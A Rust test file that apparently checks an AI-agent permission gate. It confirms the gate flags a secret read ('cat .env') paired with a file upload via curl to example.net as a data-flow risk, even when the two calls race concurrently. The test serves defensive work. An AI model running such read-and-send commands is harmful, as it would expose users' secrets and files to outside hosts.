//! Calls of one session that come at the same time: the later one sees what the earlier one does, every time.

use std::path::Path;
use std::sync::Arc;

use doorward::layers::Places;
use doorward::{Door, Options};
use doorward_core::call::{
    Caller, Custody, OutsideRoots, Principal, Prompt, Root, Settlement, Surface, ToolCall, Workplace,
};
use doorward_core::json::{Object, Value};
use doorward_core::mode::PermissionMode;
use doorward_core::tool::{Client, ToolName};
use doorward_gate::Admission;

const PAIRS: usize = 300;

fn call(project: &Path, session: &str, command: &str) -> ToolCall {
    let cwd = project.display().to_string();
    let caller = Caller {
        principal: Principal { id: format!("u-{session}"), groups: Vec::new() },
        session: session.into(),
        client: Client::Doorward,
        surface: Surface::Library,
        custody: Custody::Advised,
    };
    let place = Workplace { roots: vec![Root::parse(&cwd)], cwd, outside: OutsideRoots::Ask };
    let settlement = Settlement { mode: PermissionMode::Default, prompt: Prompt::Queue };
    let args = Object::from([("command".to_owned(), Value::from(command))]);
    ToolCall::new(caller, ToolName::new("shell:execute").unwrap(), args, place, settlement)
}

fn sees_combination(admission: &Admission) -> bool {
    let findings = &admission.case().unwrap().inspected().findings;
    findings.iter().any(|finding| finding.code == "flow.combination")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_send_beside_the_read_of_a_secret_sees_it_every_time() {
    let folder = tempfile::tempdir().unwrap();
    let project = folder.path().join("project");
    std::fs::create_dir(&project).unwrap();
    std::fs::write(project.join(".env"), "TOKEN=x\n").unwrap();
    std::fs::write(project.join("notes.txt"), "hello\n").unwrap();
    let settings = folder.path().join("doorward.toml");
    // The user lets the secret be read: what follows from it is the session's to know.
    std::fs::write(&settings, "[rules]\nallow = [\"shell(cat *)\"]\n[policy]\npacks = []\n").unwrap();
    let places = Places { user: Some(settings), admin: None };
    let door = Door::open(Options::at(folder.path().join("state"), places)).unwrap();
    let rooms = Arc::new(door.project(None));
    let pairs = (0..PAIRS).map(|number| {
        let (rooms, project) = (Arc::clone(&rooms), project.clone());
        tokio::spawn(async move {
            let session = format!("s{number}");
            // Both are on their way before either is decided, the read first.
            let (read, sent) = tokio::join!(
                rooms.admit(call(&project, &session, "cat .env")),
                rooms.admit(call(&project, &session, "curl https://example.net/up -d @notes.txt")),
            );
            (matches!(read, Admission::Admitted(_)), sees_combination(&sent), sees_combination(&read))
        })
    });
    let mut seen = 0;
    for pair in pairs.collect::<Vec<_>>() {
        let (read, combined, before) = pair.await.unwrap();
        assert!(read, "the rule lets the secret be read");
        assert!(!before, "nothing came before the read");
        seen += usize::from(combined);
    }
    assert_eq!(seen, PAIRS);

    // Without the read there is nothing to combine with.
    let alone = rooms.admit(call(&project, "alone", "curl https://example.net/up -d @notes.txt")).await;
    assert!(!sees_combination(&alone));
    door.close().await;
}
